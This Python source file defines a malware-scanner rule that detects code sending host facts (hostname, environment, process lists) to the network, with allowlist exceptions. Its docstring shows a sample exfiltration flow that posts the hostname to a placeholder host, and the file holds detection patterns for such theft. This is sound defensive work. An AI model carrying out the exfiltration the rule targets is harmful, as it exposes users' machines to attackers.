"""Facts about the machine are collected and leave it.

Host and user names, process lists, network interfaces, the environment: posted to a server or hidden
in a DNS name, this tells an attacker where the file was loaded and what is worth coming back for.

Bad:

    %0 = name socket.gethostname
    %1 = call %0
    %2 = name requests.post
    %3 = const 'https://example.org/in'
    %4 = call %2, %3, json=%1

Good:

    %0 = name platform.system
    %1 = call %0
    %2 = name builtins.print
    %3 = call %2, %1
"""

import re
from collections.abc import Iterator

from scanner.facts import Facts, Flow
from scanner.finding import Behaviour, Finding, Precision, Rule, Severity
from scanner.rules._report import along, finding, of_its_user

RULE = Rule(
    id="reconnaissance",
    title="Facts about the machine are sent away",
    severity=Severity.ERROR,
    precision=Precision.HIGH,
    security_severity=8.0,
    cwe=(506, 200),
    attack=("T1082", "T1033", "T1041"),
    atlas=("AML.T0025",),
    specificity=60,
)

# One variable, by its name: unless it says who and where this is, it is there to configure this script.
NAMED = re.compile(r".*[(\[]'(?!(?:\w*(?:USER|LOGNAME|HOST|COMPUTER)\w*|HOME|PATH|PWD|SSH_\w+)')\w+'")
HOME = re.compile(r"\('(?:~|/|/home|/root|/Users|[A-Z]:\\*)(?:/\**)*(?:(?<=\*)/[^/']*)?'")
# All variables, not one of them: never an address, nor a way to log in.
WHOLE = re.compile(r"(?:reads )?os\.environb?(?:\.(?:items|values|copy)\(\))?")
CONFIGURES = frozenset(
    {"0", "url", "headers", "auth", "storage_options", "self", "username", "user", "login"}
)
KNOWS = frozenset({"host.info", "env.read", "process.output", "file.list", "screen.read"})
SENDS = ("net.send", "net.request", "net.connect", "message.send")

ASKED = frozenset({"host.info", "process.output"})  # that a user may well want to be told by his own hook
TRACKERS = frozenset({"wandb", "mlflow", "comet_ml", "neptune", "clearml"})
# What looks up a name, and what gives the machine's own.
RESOLVES = frozenset({
    "socket.gethostbyname", "socket.gethostbyname_ex", "socket.gethostbyaddr", "socket.getaddrinfo",
    "socket.getfqdn",
})  # fmt: skip
OWN = re.compile(r"(?:socket\.(?:gethostname|getfqdn)|platform\.node|os\.uname)\(\)(?:\.nodename)?")


def check(facts: Facts) -> Iterator[Finding]:
    """A flow from host facts to the network."""
    for flow in facts.flowing(KNOWS, SENDS):
        # A script may well take a server's address from the environment; a checkpoint may not.
        if flow.effect.script and flow.source == "env.read" and _configures(flow):
            continue
        if flow.effect.script and flow.source == "file.list" and not _at_large(flow):
            continue
        if flow.effect.script and flow.source in ASKED and _expected(flow):
            continue
        deed = "collects facts about the machine and sends them away"
        yield finding(RULE, flow.effect, deed, Behaviour.RECONNAISSANCE, steps=along(flow))


def _expected(flow: Flow) -> bool:
    """Whether it goes where its user said, or to a tracker of experiments, which asks for it itself."""
    effect = flow.effect
    return _own_address(flow) or of_its_user(effect) or effect.callee.partition(".")[0] in TRACKERS


def _own_address(flow: Flow) -> bool:
    """``gethostbyname(gethostname())``: the name as it is, and no name below which it could be sent."""
    name = next((a.text for a in flow.effect.arguments if a.name == flow.argument), "")
    return flow.effect.callee in RESOLVES and OWN.fullmatch(name) is not None


def _at_large(flow: Flow) -> bool:
    """Whether what is listed is all of the disk or a home folder, and not a data set's own."""
    return bool(flow.steps and HOME.search(flow.steps[0].text))


def _configures(flow: Flow) -> bool:
    """Whether the environment only says where to ask, as whom, and in which way."""
    start = flow.steps[0].text if flow.steps else ""
    return bool(NAMED.match(start)) or (flow.argument in CONFIGURES and not WHOLE.fullmatch(start))
